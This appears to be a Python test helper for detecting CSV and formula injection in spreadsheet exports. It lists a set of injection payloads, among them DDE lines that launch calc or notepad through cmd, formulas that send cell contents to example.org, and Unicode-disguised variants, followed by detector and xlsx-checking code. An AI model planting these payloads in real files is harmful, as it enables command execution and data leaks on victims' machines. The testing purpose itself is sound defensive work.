"""Which texts do spreadsheets take for formulas, and how does a test see that one is alive?"""

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

PAYLOADS = (
    "=1+1",
    "=1+1;x",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "|calc",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=WEBSERVICE("http://example.org/"&A2)',
    '=IMPORTXML(CONCAT("http://example.org/",A2:E2),"//a")',
    '=IMAGE("http://example.org/a.png")',
    '=DDE("cmd";"/C calc";"x")',
    '=EXEC("calc")',
    "=A1:Z99",
    "={1,2}",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "“=1+1”",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\u2212 1+1",
    "x;=1+1;y",
    'x";=1+1;"y',
    "x\n=1+1",
    "x\t=1+1",
    '"\t=1+1',
    '<r></r></is></c><c r="A9"><f>1+1</f></c><c><is><r></r>',
)
"""More than the forty of OWASP's page and its kin, of every kind that is known to work."""

SIGNS = "=+-@|"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SEPARATORS = ",;\t"


def alive(cell: str) -> bool:
    """Whether a spreadsheet may calculate a cell of CSV; numbers are only numbers."""
    if NUMBER.fullmatch(cell):
        return False
    bare = cell.lstrip("\"'“”‘’ \t\r\n\u00a0\u3000\x00\x1b\u200b\u202e\ufeff")
    if cell.lstrip().startswith("'"):
        return False
    return bool(bare) and unicodedata.normalize("NFKC", bare[0]) in (*SIGNS, "\u2212")


def live_cells(content: bytes) -> Iterator[str]:
    """Cells of a CSV file that are formulas for a reader of any separator, by lines and without."""
    text = content.decode("utf-8-sig")
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from (cell for cell in row if alive(cell))
        for line in text.splitlines():
            yield from (cell for cell in re.split(f"[{separator}]", line) if sloppy(cell))


def sloppy(cell: str) -> bool:
    """For a reader that has lost count of the quotes: only what begins with the sign itself."""
    return cell[:1] in tuple(SIGNS) and not NUMBER.fullmatch(cell.strip('"'))


def parsed(content: bytes) -> list[list[str]]:
    """As RFC 4180 has it."""
    assert content.startswith(b"\xef\xbb\xbf"), "Excel would not read Cyrillic"
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def sheets_of(file: Path) -> list[ElementTree.Element]:
    with zipfile.ZipFile(file) as book:
        assert book.testzip() is None
        names = sorted(name for name in book.namelist() if name.startswith("xl/worksheets/sheet"))
        everything = [name for name in book.namelist() if name.endswith((".xml", ".rels"))]
        for name in everything:
            ElementTree.fromstring(book.read(name))
        assert not [name for name in book.namelist() if "external" in name.lower()]
        return [ElementTree.fromstring(book.read(name)) for name in names]


def cells_of(file: Path) -> list[list[tuple[str, str]]]:
    """Rows of (type, value): "s" for a text, "n" for a number; fails on a formula or a link."""
    rows: list[list[tuple[str, str]]] = []
    for sheet in sheets_of(file):
        assert sheet.find(f".//{MAIN}f") is None, "a formula"
        assert sheet.find(f".//{MAIN}hyperlink") is None, "a link"
        rows.extend([_cell(cell) for cell in row] for row in sheet.iter(f"{MAIN}row"))
    return rows


def _cell(cell: ElementTree.Element) -> tuple[str, str]:
    if cell.get("t") == "inlineStr":
        return "s", "".join(part.text or "" for part in cell.iter(f"{MAIN}t"))
    assert cell.get("t") in (None, "n"), cell.get("t")
    value = cell.find(f"{MAIN}v")
    return "n", "" if value is None else value.text or ""
